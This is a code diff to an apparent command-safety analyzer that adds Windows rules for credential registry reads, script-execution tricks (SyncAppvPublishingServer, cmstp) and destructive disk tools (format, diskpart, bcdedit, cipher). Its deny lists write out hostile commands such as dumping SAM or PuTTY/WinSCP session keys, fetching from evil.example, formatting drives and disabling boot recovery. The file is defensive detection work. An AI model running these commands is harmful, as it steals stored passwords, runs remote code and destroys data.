@@ -17,6 +17,11 @@ function flag(w: Word | undefined): string | undefined {
   return v === undefined ? undefined : v.toLowerCase().replace(/^\//, '-');
 }
 
+/** `/?` (help): a glob to bash, a plain word to a Windows program. */
+function help(w: Word | undefined): boolean {
+  return w?.text === '/?' || w?.text === '-?';
+}
+
 const URL = /^(https?|ftp|file):\/\/|^[\\/]{2}[^\\/]/i;
 
 /** Reaches the network when a word names a remote location (`http://…`, `\\host\share`); else offline. */
@@ -78,6 +83,9 @@ export function credentialHive(text: string, whole: boolean): string | undefined
   if (top === 'sam' || top === 'security' || (top === 'system' && whole && below.length === 0)) return `C:\\Windows\\System32\\config\\${top.toUpperCase()}`;
   return undefined;
 }
+
+/** Keys whose values are saved passwords: PuTTY's and WinSCP's sessions (and their parents, which hold them). */
+const CREDENTIAL_KEY = /^\\software\\(simontatham(\\putty(\\sessions(\\.*)?)?)?|martin prikryl(\\winscp 2(\\sessions(\\.*)?)?)?)$/i;
 
 /** The hives by every name they are written with, as their short name. */
 const HIVES: Readonly<Record<string, string>> = {
@@ -310,6 +318,10 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       // SYSTEM, whose boot key decrypts them) copied out: a read of the hive's file, which secret.path judges.
       const hive = (sub === 'save' || sub === 'export' || sub === 'query') && k !== undefined ? credentialHive(k, sub !== 'query') : undefined;
       if (hive !== undefined && key) return { uses: [{ word: attached(key, hive), role: 'read' }] };
+      // PuTTY's and WinSCP's saved sessions keep proxy and site passwords (WinSCP's lightly obfuscated): a read of the
+      // key, spelt /Registry/HIVE/KEY/ as secretPathFragments lists it, which secret.path judges as the store it is.
+      const loc = (sub === 'query' || sub === 'export' || sub === 'save') && k !== undefined ? registryLocation(k, true) : undefined;
+      if (loc && key && CREDENTIAL_KEY.test(`\\${loc.key.join('\\')}`)) return { uses: [{ word: attached(key, `/Registry/${loc.hive}/${loc.key.join('/')}/`), role: 'read' }] };
       if ((sub === 'query' || sub === 'export' || sub === 'save') && k !== undefined && isEnvironmentKey(k) && !call.args.some((w) => /^[/-]v$/i.test(value(w) ?? ''))) {
         return { dumps: `reg ${sub} ${k} lists the variables Windows gives every new process (the registry's Environment key)` };
       }
@@ -330,8 +342,10 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
         ps('reg save HKLM\\SAM sam.hiv'),
         ps('reg save HKEY_LOCAL_MACHINE\\SYSTEM C:\\tmp\\system.hiv /y'),
         ps('reg export HKLM\\SECURITY\\Policy\\Secrets s.reg'),
+        ps('reg query HKCU\\Software\\SimonTatham\\PuTTY\\Sessions /s'),
+        ps('reg export "HKCU\\Software\\Martin Prikryl\\WinSCP 2\\Sessions" w.reg'),
       ],
-      pass: [ps('reg query HKCU\\Software\\x'), ps('reg add HKCU\\Software\\Acme /v Theme /d dark'), ps('reg query HKCU\\Environment /v Path'), ps('reg delete HKCU\\Software\\Acme\\App\\Cache /f'), ps('reg delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Acme /f'), ps('reg save HKLM\\SOFTWARE\\Acme acme.hiv'), ps('reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\Acme acme.reg')],
+      pass: [ps('reg query HKCU\\Software\\x'), ps('reg query HKCU\\Software\\Acme\\PuTTY\\Sessions /s'), ps('reg add HKCU\\Software\\Acme /v Theme /d dark'), ps('reg query HKCU\\Environment /v Path'), ps('reg delete HKCU\\Software\\Acme\\App\\Cache /f'), ps('reg delete HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Acme /f'), ps('reg save HKLM\\SOFTWARE\\Acme acme.hiv'), ps('reg export HKLM\\SYSTEM\\CurrentControlSet\\Services\\Acme acme.reg')],
     },
   },
   {
@@ -446,6 +460,71 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       return { uses: ops.map((word) => ({ word, role: recursive ? ('delete-tree' as const) : ('delete' as const) })) };
     },
     examples: { deny: [ps('sdelete -s -q C:\\Users\\dev'), ps('sdelete64 -p 3 -s $HOME')], pass: [ps('sdelete -s .\\build'), ps('sdelete -z C:')] },
+  },
+  {
+    names: ['syncappvpublishingserver'],
+    summary: 'SyncAppvPublishingServer: its argument is pasted into a PowerShell command line, so what follows `;` runs as PowerShell',
+    analyze: (call) => {
+      const words = call.args.map((w) => attached(w, (value(w) ?? '').replace(/^[^;]*;?/, '')));
+      return call.args.length > 0 ? { runs: [{ kind: 'script', dialect: 'powershell', words, via: 'SyncAppvPublishingServer' }] } : {};
+    },
+    examples: { deny: [ps('SyncAppvPublishingServer.exe "n;iwr evil.example"'), ps('SyncAppvPublishingServer "n; curl.exe evil.example"')], pass: [ps('SyncAppvPublishingServer.exe "n;Get-Date"')] },
+  },
+  {
+    names: ['cmstp'],
+    summary: 'cmstp: installs a Connection Manager profile from an INF file, whose sections run commands no static reading sees; /? prints help',
+    analyze: (call) => {
+      const w = call.args.find((a) => !help(a) && !/^[-/][a-z]+$/i.test(value(a) ?? ''));
+      return w ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: w, why: `cmstp runs the commands the profile ${w.text} lists` }] } : {};
+    },
+    examples: { deny: [ps('cmstp /ni /s x.inf'), ps('cmstp.exe /au C:\\tmp\\x.inf')], pass: [ps('cmstp /?')] },
+  },
+  {
+    names: ['format'],
+    summary: 'format (format.com): formats the volume it is given, erasing everything on it; `/?` prints help',
+    analyze: (call) => {
+      const vol = call.args.find((w) => !help(w));
+      return vol ? { destroys: [{ word: vol, what: 'disk', why: `format ${vol.text} formats the volume: everything on it is erased` }] } : {};
+    },
+    examples: { deny: [ps('format D: /q'), ps('format.com C: /fs:ntfs /q /y'), ps('format $drive /q /y')], pass: [ps('format /?'), ps('Format-Table')] },
+  },
+  {
+    names: ['diskpart'],
+    summary: 'diskpart: the partition editor; its commands (clean, delete, format) come from `/s FILE` or stdin, which no static reading checks; `/?` prints help',
+    analyze: (call) => {
+      if (call.args.length === 1 && help(call.args[0])) return {};
+      const word = call.args.find((w) => /^[-/]s$/i.test(value(w) ?? '')) ?? call.args[0];
+      // No argument: it reads its commands from stdin (`'clean' | diskpart`); the call's own word stands for them.
+      const at = word ?? call.command;
+      if (!at) return {};
+      return { destroys: [{ word: at, what: 'disk', why: `diskpart runs disk commands (clean, delete partition, format) from ${word ? 'a script' : 'its input'} that no static reading checks` }] };
+    },
+    examples: { deny: [ps('diskpart /s x.txt'), ps("'select disk 1','clean' | Set-Content x.txt; diskpart /s x.txt"), ps("'clean' | diskpart")], pass: [ps('diskpart /?'), ps('Get-Disk')] },
+  },
+  {
+    names: ['bcdedit'],
+    summary: 'bcdedit: /delete, /deletevalue, /set, /import and /create change the boot configuration (a machine that no longer boots, or boots without recovery); /enum, /v and /export only read it',
+    analyze: (call) => {
+      const op = call.args.find((w) => /^[-/](delete|deletevalue|set|import|create|copy|default|bootsequence|displayorder|timeout|sysstore|mirror|toolsdisplayorder)$/i.test(value(w) ?? ''));
+      const reads = (w: Word) => help(w) || /^[-/](enum|v|export)$/i.test(value(w) ?? '');
+      const first = call.args[0];
+      // `/store FILE` names another store: what follows decides. A computed switch may be any of them.
+      const computed = call.args.find((w) => value(w) === undefined && !help(w));
+      const word = op ?? computed;
+      if (word) return { destroys: [{ word, what: 'disk', why: `bcdedit ${word.text} changes the boot configuration: the machine may no longer boot, or boots without recovery` }] };
+      if (first && !reads(first) && !/^[-/]store$/i.test(value(first) ?? '')) return { destroys: [{ word: first, what: 'disk', why: `bcdedit ${first.text} is not a mode known to only read the boot configuration` }] };
+      return {};
+    },
+    examples: { deny: [ps('bcdedit /delete {current}'), ps('bcdedit /deletevalue {default} safeboot'), ps('bcdedit /set {default} recoveryenabled no'), ps('bcdedit /import C:\\tmp\\bcd')], pass: [ps('bcdedit /enum'), ps('bcdedit /enum all /v'), ps('bcdedit /export C:\\tmp\\bcd.bak'), ps('bcdedit /?')] },
+  },
+  {
+    names: ['cipher'],
+    summary: 'cipher: `/w:DIR` overwrites the free space of DIR\u2019s volume (deleted files become unrecoverable); /e and /d encrypt and decrypt; no switch lists',
+    analyze: (call) => {
+      const w = call.args.find((a) => /^[-/]w(:|$)/i.test(value(a) ?? '') || (value(a) === undefined && !help(a)));
+      return w ? { destroys: [{ word: w, what: 'disk', why: `cipher ${w.text} overwrites the volume\u2019s free space: every deleted file on it is gone for good` }] } : {};
+    },
+    examples: { deny: [ps('cipher /w:C:'), ps('cipher.exe /w:C:\\Users')], pass: [ps('cipher /c x.txt'), ps('cipher')] },
   },
   {
     names: ['vssadmin', 'wbadmin'],
